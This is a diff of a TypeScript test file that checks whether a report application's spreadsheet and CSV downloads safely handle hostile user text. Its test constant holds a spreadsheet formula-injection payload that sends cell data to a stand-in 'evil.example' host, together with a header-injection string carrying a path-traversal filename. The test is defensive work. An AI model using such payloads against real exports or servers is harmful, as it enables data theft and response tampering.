@@ -1,6 +1,6 @@
 import { parse } from 'csv-parse/sync';
 import { readXlsx } from 'hucre/xlsx';
-import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { appeals } from '../database/schema/marking.ts';
 import {
   buildQuestion,
@@ -10,6 +10,7 @@ import {
   buildTeacher,
 } from '../testing/factories.ts';
 import { startTestApp, type TestApp } from '../testing/test-app.ts';
+import { until } from '../testing/until.ts';
 
 /** What a spreadsheet would run, and what would begin another header of the answer. */
 const HOSTILE = '=HYPERLINK("http://evil.example?"&A1,"x")\r\nX-Evil: 1; filename="../../a.exe"';
@@ -66,14 +67,11 @@ describe('downloads of what somebody hostile has written', () => {
       students: [{ name: text, positives: text, areasToImprove: text }],
       classInfo: { className: text, subject: text, term: text, unitsCovered: text },
     });
-    const { id: reportId, revision } = await vi.waitFor(
-      async () => {
-        const [report] = (await reports.getBatch({ batchId })).reports;
-        if (report?.state !== 'written') throw new Error('The report is not written yet.');
-        return report;
-      },
-      { timeout: 10_000 },
-    );
+    const { id: reportId, revision } = await until(async () => {
+      const [report] = (await reports.getBatch({ batchId })).reports;
+      if (report?.state !== 'written') throw new Error('The report is not written yet.');
+      return report;
+    });
     await reports.edit({ reportId, revision, report: HOSTILE });
     return batchId;
   }
